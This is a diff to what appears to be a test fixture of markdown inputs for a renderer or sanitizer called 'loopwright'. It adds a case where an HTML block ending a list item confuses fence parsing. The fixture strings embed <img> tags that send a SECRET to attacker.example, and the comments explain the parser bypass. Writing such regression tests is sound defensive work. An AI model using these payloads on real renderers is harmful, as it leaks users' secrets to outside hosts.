@@ -135,6 +135,13 @@ FOUND = {
     # and over for markdown-it, so `  ```` is a fence at the margin; loopwright kept the item
     "a fence after an empty list item and a blank line": (
         "-\n\n  ```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/w?d=SECRET'>\n"),
+    # an HTML block at the margin ends a list item (it starts a block: no lazy continuation of
+    # the item's text), so `   ```` after it is a fence at the margin, closed by the next ```;
+    # loopwright kept the item, made it the item's fence, ended it at that ``` and opened one
+    # there, where the tag's rest past a blank line in the `<pre>` block passed as code
+    "a fence after an HTML block that ended a list item": (
+        "* star\n<table> a\n\t\n   ```\n```\n <pre>\n<img\n\n"
+        "src='https://attacker.example/x?d=SECRET'>\n"),
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
         "src='https://attacker.example/e?d=SECRET'>\n"),
